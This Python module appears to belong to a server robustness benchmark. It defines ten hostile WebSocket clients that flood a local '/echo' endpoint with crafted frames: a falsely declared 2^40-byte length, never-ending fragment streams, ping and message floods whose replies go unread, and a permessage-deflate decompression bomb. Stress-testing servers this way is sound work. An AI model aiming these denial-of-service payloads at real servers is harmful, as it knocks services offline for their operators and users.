"""Hostile WebSocket clients on `/echo`.  The mask is zero, so payloads are sent as they are."""

from __future__ import annotations

import itertools
import struct
import zlib
from collections.abc import Iterator

from bench.attacks.flood import endless, flood

TEXT, BINARY, CONTINUED, PING = 1, 2, 0, 9
FINAL = 0x80
HANDSHAKE = (
    b"GET /echo HTTP/1.1\r\nHost: 127.0.0.1\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
    b"Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n%b\r\n"
)


def frame(first: int, payload: bytes = b"", declared: int | None = None) -> bytes:
    """A masked frame; `declared` is a length to claim instead of the true one."""
    length = len(payload) if declared is None else declared
    if length < 126:
        size = bytes((0x80 | length,))
    elif length < 65_536:
        size = struct.pack(">BH", 0x80 | 126, length)
    else:
        size = struct.pack(">BQ", 0x80 | 127, length)
    return bytes((first,)) + size + bytes(4) + payload


def _flood(port: int, until: float, frames: Iterator[bytes], *, reads: bool = True, more: bytes = b"") -> str:
    return str(flood(port, frames, until, reads=reads, upgrade=HANDSHAKE % more))


def huge_length(port: int, until: float) -> str:
    """A frame that says it has 2^40 bytes, and then as many as it can send."""
    return _flood(port, until, itertools.chain([frame(FINAL | BINARY, b"", 2**40)], endless(b"x")))


def endless_fragments(port: int, until: float) -> str:
    """A message of 64 KiB fragments that never ends."""
    return _flood(
        port, until, itertools.chain([frame(BINARY, bytes(65_536))], endless(frame(CONTINUED, bytes(65_536))))
    )


def empty_fragments(port: int, until: float) -> str:
    """A message of empty fragments that never ends."""
    return _flood(port, until, itertools.chain([frame(TEXT)], endless(frame(CONTINUED))))


def tiny_fragments(port: int, until: float) -> str:
    """A message of fragments of one byte that never ends."""
    return _flood(port, until, itertools.chain([frame(TEXT, b"x")], endless(frame(CONTINUED, b"x"))))


def pings_unread(port: int, until: float) -> str:
    """Pings of 125 bytes whose pongs are never read."""
    return _flood(port, until, endless(frame(FINAL | PING, bytes(125))), reads=False)


def pings(port: int, until: float) -> str:
    """Empty pings, pongs read: the most frames that a connection can be sent."""
    return _flood(port, until, endless(frame(FINAL | PING)))


def messages_unread(port: int, until: float) -> str:
    """Messages of 4 KiB whose echoes are never read."""
    return _flood(port, until, endless(frame(FINAL | BINARY, bytes(4096))), reads=False)


def tiny_messages(port: int, until: float) -> str:
    """Messages of one byte, echoes read."""
    return _flood(port, until, endless(frame(FINAL | BINARY, b"x")))


def big_messages(port: int, until: float) -> str:
    """Messages of 4 MiB under a mask, echoes read: unmasking is the work."""
    whole = bytearray(frame(FINAL | BINARY, bytes(4 * 1024 * 1024)))
    whole[10:14] = b"\x01\x02\x03\x04"
    return _flood(port, until, itertools.repeat(bytes(whole)))


def deflate_bomb(port: int, until: float) -> str:
    """Asks for permessage-deflate and sends compressed zeros whether it was granted or not."""
    offer = b"Sec-WebSocket-Extensions: permessage-deflate\r\n"
    squeezed = zlib.compressobj(wbits=-15)
    body = squeezed.compress(bytes(256 * 1024 * 1024)) + squeezed.flush(zlib.Z_SYNC_FLUSH)
    return _flood(port, until, iter([frame(FINAL | 0x40 | BINARY, body[:-4])]), more=offer)


ATTACKS = {
    "ws frame of 2^40 bytes": huge_length,
    "ws endless fragments": endless_fragments,
    "ws empty fragments": empty_fragments,
    "ws one-byte fragments": tiny_fragments,
    "ws pings, pongs never read": pings_unread,
    "ws pings, pongs read": pings,
    "ws messages, echoes never read": messages_unread,
    "ws one-byte messages, echoes read": tiny_messages,
    "ws messages of 4 MiB, echoes read": big_messages,
    "ws deflate bomb": deflate_bomb,
}
